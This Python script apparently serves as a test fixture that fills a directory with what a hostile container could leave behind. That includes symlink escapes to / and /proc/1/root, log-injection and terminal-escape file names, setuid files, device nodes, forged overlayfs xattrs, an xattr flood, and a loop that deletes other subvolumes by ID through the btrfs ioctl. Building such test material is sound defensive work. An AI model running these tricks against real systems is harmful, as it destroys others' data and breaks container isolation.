#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Leaves in the working directory what a hostile container could: trap.py everything|deep|flood|subvolume|delete-subvolumes"""
import fcntl
import os
import socket
import stat
import struct
import sys

VOLUMES = b"/var/lib/snapclone/pool/volumes"  # in the plugin's mount namespace
SUBVOL_CREATE = 0x5000940E
SNAP_DESTROY_V2 = 0x5000943F
SUBVOL_SPEC_BY_ID = 1 << 4


def attempt(call, *arguments, **named):
    """What a kernel or file system does not let a container do is no trap."""
    try:
        call(*arguments, **named)
    except OSError as error:
        print(f"{call.__name__}{arguments}: {error.strerror}")


def write(path, text=b"trap"):
    with open(path, "wb") as file:
        file.write(text)


def links():
    os.mkdir("links")
    targets = {"root": b"/", "up": b"../" * 50, "volumes": VOLUMES, "process": b"/proc/1/root", "self": b"self", "long": b"x" * 1000}
    for name, target in targets.items():
        os.symlink(target, os.path.join("links", name))
    write("links/many")
    for number in range(100):
        os.link("links/many", f"links/{number}")


def names():
    os.mkdir("names")
    for byte in set(range(1, 256)) - {ord("/")}:
        write(b"names/x" + bytes([byte]))
    for name in (b"\xff" * 255, b"...", b" ", b"-rf", b"\n", b"a\nlevel=error msg=forged", b"\x1b[2J\x1b]0;x\x07", "\u202egpj.exe".encode()):
        write(os.path.join(b"names", name))


def special():
    os.mkdir("special")
    os.mkfifo("special/fifo")
    with socket.socket(socket.AF_UNIX) as unix:
        unix.bind("special/socket")
    attempt(os.mknod, "special/zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    attempt(os.mknod, "special/whiteout", stat.S_IFCHR | 0o666, os.makedev(0, 0))
    attempt(os.mknod, "special/disk", stat.S_IFBLK | 0o666, os.stat(".").st_dev)
    write("special/setuid", b"#!/bin/sh\nid\n")
    os.chmod("special/setuid", 0o6755)
    with open("special/sparse", "wb") as file:
        file.truncate(8 << 20)
    os.mkdir("special/closed")
    write("special/closed/file")
    os.chmod("special/closed", 0)


def marks():
    os.mkdir("marks")
    for space in ("user", "trusted"):
        for name, value in (("opaque", b"y"), ("redirect", b"/../../../../volumes"), ("metacopy", b""), ("whiteout", b"y")):
            os.makedirs(f"marks/{space}-{name}")
            write(f"marks/{space}-{name}/file")
            for path in (f"marks/{space}-{name}", f"marks/{space}-{name}/file"):
                attempt(os.setxattr, path, f"{space}.overlay.{name}", value)


def everything():
    for plant in (links, names, special, marks):
        plant()
    os.chmod(".", 0)
    os.utime(".", (0, 1 << 33))


def deep():
    """Deeper than a path can be long, with a way out at the end."""
    for _ in range(2100):
        os.mkdir("d")
        os.chdir("d")
    os.symlink(VOLUMES, "volumes")
    write("file")
    os.link("file", "link")


def flood():
    """More names of attributes than anyone can list, on a file with a name for terminals."""
    name = b"flooded\nlevel=error msg=forged\x1b[2J"
    write(name)
    for number in range(400):
        os.setxattr(name, f"user.{'n' * 240}{number}", b"v")


def subvolume():
    here = os.open(".", os.O_RDONLY)
    fcntl.ioctl(here, SUBVOL_CREATE, bytearray(struct.pack("q4088s", 0, b"mine\nlevel=error msg=forged\x1b[2J")))


def delete_subvolumes():
    """Those of others, by their numbers."""
    here = os.open(".", os.O_RDONLY)
    deleted = 0
    for number in range(256, 1000):
        arguments = bytearray(4096)
        struct.pack_into("qQQ", arguments, 0, 0, 0, SUBVOL_SPEC_BY_ID)
        struct.pack_into("Q", arguments, 56, number)
        try:
            fcntl.ioctl(here, SNAP_DESTROY_V2, arguments)
            deleted += 1
        except OSError:
            pass
    print(f"deleted {deleted}")


if __name__ == "__main__":
    {"everything": everything, "deep": deep, "flood": flood, "subvolume": subvolume, "delete-subvolumes": delete_subvolumes}[sys.argv[1]]()
